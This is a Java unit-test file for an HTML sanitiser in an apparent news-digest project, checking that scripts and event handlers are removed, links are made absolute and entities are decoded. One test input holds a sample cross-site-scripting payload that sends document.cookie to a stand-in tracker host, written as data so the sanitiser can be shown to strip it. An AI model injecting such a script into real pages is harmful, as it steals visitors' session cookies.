package org.resumen.digest.article;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class HtmlTest {
    @Test
    void sanitisingDropsScriptsAndMakesRelativeLinksAbsolute() {
        String html = "<p>Seguí la <a href=\"/congreso/votacion\" onclick=\"robar()\">votación</a>.</p>"
                + "<script>document.location='https://rastreador.example/?c='+document.cookie</script>";

        String safe = Html.sanitise(html, "https://diariodelplata.example/congreso/quorum");

        assertThat(safe)
                .contains("href=\"https://diariodelplata.example/congreso/votacion\"")
                .doesNotContain("<script", "document.cookie", "onclick");
    }

    @Test
    void plainTextDecodesEntitiesStripsTagsAndCollapsesWhitespace() {
        String text = Html.toPlainText("  Peña&nbsp;Arbó:\n <em>&laquo;No&raquo;</em>   &amp; “a ciegas”  ");

        assertThat(text).isEqualTo("Peña Arbó: «No» & “a ciegas”");
    }

    @Test
    void safePlainTextKeepsTheWordsButNotTheScript() {
        String text = Html.safePlainText("<p>Bono de 85.000 pesos.</p><script>alert('x')</script><p>Fin…</p>",
                "https://diariodelplata.example/economia/bono");

        assertThat(text).isEqualTo("Bono de 85.000 pesos. Fin…");
    }
}
